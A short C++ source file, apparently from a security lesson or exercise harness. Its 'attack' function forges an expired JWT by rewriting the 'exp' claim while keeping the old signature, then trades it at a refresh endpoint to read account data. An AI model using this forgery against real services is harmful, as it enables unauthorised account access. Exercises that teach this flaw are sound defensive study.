// Believes: the end of a token is only a number in it.
#include "base/base64url.hpp"
#include "base/clock.hpp"
#include "borrowed_name.hpp"
#include "jwt/unverified_token.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  const auto token = jwt::UnverifiedToken::decode(evidence.expired_access_token);
  if (!token) return {};
  auto claims = token->unverified_claims();
  claims.set("exp", base::system_seconds() + 900);
  const auto mended = std::string(token->header_segment()) + "." + base::base64url_encode(claims.dump()) +
                      "." + std::string(token->signature_segment());
  const auto pair = evidence.refresh({{"access_token", mended}, {"refresh_token", evidence.refresh_token}});
  return {.account = evidence.show_me(pair.json().text("access_token").value_or("")).body};
}

}  // namespace lesson
